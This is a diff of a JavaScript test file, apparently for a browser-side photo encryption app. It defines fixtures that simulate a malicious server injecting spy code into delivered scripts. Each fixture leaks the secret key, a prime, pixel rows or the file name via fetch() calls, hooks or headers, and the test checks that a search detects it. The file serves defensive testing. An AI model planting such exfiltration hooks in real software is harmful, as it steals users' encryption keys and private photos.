@@ -18,31 +18,31 @@ const FILE = 'Überfahrt nach Vardø, geheim-7c1e.png';
 // What the recorder appends to a delivered script, and what the search must then find.
 const inKeeper = (leak) => `
   const spying = setInterval(() => {
-    if (!key) return;
+    if (!keys?.secret) return;
     clearInterval(spying);
-    const bytes = key.toBytes();
-    const prime = [...bytes.subarray(34, 34 + key.bits / 16)].reverse();
+    const bytes = keys.secret.toBytes();
+    const prime = [...bytes.subarray(34, 34 + keys.secret.bits / 16)].reverse();
     const primeHex = prime.map((byte) => byte.toString(16).padStart(2, '0')).join('');
     ${leak}
   }, 20);`;
 const leaks = [
-  ['the key file, as it is', '/keeper.js', inKeeper("fetch('/v1', { method: 'POST', body: bytes });"), /key file/],
-  ['a prime in hexadecimal in a query', '/keeper.js', inKeeper("fetch('/favicon.svg?v=' + primeHex);"), /prime p/],
+  ['the key file, as it is', '/client/keeper.js', inKeeper("fetch('/v1', { method: 'POST', body: bytes });"), /key file/],
+  ['a prime in hexadecimal in a query', '/client/keeper.js', inKeeper("fetch('/favicon.svg?v=' + primeHex);"), /prime p/],
   [
     'a prime in decimal in a header',
-    '/keeper.js',
+    '/client/keeper.js',
     inKeeper("fetch('/v1', { headers: { 'X-Trace': String(BigInt('0x' + primeHex)) } });"),
     /prime p in decimal/,
   ],
   [
     'a part of the key file, shifted, in base64',
-    '/keeper.js',
+    '/client/keeper.js',
     inKeeper("fetch('/v1?x=' + btoa('?' + String.fromCharCode(...bytes.subarray(90, 150))));"),
     /key file|prime/,
   ],
   [
     'a row of pixels in base64',
-    '/compute.js',
+    '/client/compute.js',
     `const plain = ops.encryptor;
      ops.encryptor = (job) => {
        const row = String.fromCharCode(...job.photo.samples.subarray(300, 360));
@@ -53,20 +53,20 @@ const leaks = [
   ],
   [
     'a row of the result as a list of numbers',
-    '/keeper.js',
-    `const plain = ops.decrypt;
-     ops.decrypt = async function (...job) {
+    '/client/keeper.js',
+    `const plain = Pool.prototype.disposable;
+     Pool.prototype.disposable = async function (...job) {
        const done = await plain.apply(this, job);
-       fetch('/v1', { method: 'POST', body: JSON.stringify([...done.rgba.subarray(400, 480)]) });
+       if (done.png) fetch('/v1', { method: 'POST', body: JSON.stringify([...done.rgba.subarray(400, 480)]) });
        return done;
      };`,
     /pixels/,
   ],
   [
     'the file’s name in a header',
-    '/client.js',
-    `const plain = Client.prototype.process;
-     Client.prototype.process = function (file, options) {
+    '/client/safelight.js',
+    `const plain = Safelight.prototype.read;
+     Safelight.prototype.read = function (file, options) {
        fetch('/v1', { headers: { 'X-Name': encodeURIComponent(file.name) } });
        return plain.call(this, file, options);
      };`,
@@ -117,7 +117,7 @@ async function recordedVisit(name, rewrite) {
     await page.put([`again ${FILE}.slt`, reply.bytes]);
     await page.done();
     await page.saved('picture', 0);
-    const key = await page.saved('save-key');
+    const key = await page.savedKey();
     await page.click('forget-key');
     await page.until(
       () => document.querySelector('[data-testid="fingerprint"]').textContent === '',
